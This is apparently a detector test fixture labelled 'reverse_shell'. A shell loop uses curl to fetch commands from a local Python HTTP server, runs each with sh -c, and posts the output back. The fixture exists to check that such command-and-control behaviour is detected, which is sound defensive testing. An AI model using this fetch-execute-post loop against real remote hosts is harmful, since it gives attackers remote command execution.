# about: a loop asks for a command, runs it, and sends the answer
# expect: reverse_shell medium
# needs: curl python3
cat >server.py <<'END'
import http.server
jobs = [b"id", b"uname -a", b"ls /", b"df", b"ps"]
class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        job = jobs.pop(0) if jobs else b""
        self.send_response(200); self.send_header("Content-Length", str(len(job))); self.end_headers(); self.wfile.write(job)
    def do_POST(self):
        self.rfile.read(int(self.headers["Content-Length"])); self.send_response(204); self.end_headers()
    def log_message(self, *_): pass
http.server.HTTPServer(("127.0.0.1", 5301), Handler).serve_forever()
END
python3 server.py &
SERVER=$!
python3 "$LIB/peer.py" wait 5301 tcp
for _ in 1 2 3 4 5 6; do
    command=$(curl -s http://127.0.0.1:5301/)
    [ -n "$command" ] || break
    curl -s --data-binary "$(sh -c "$command" 2>&1)" http://127.0.0.1:5301/
    sleep 0.2
done
kill $SERVER
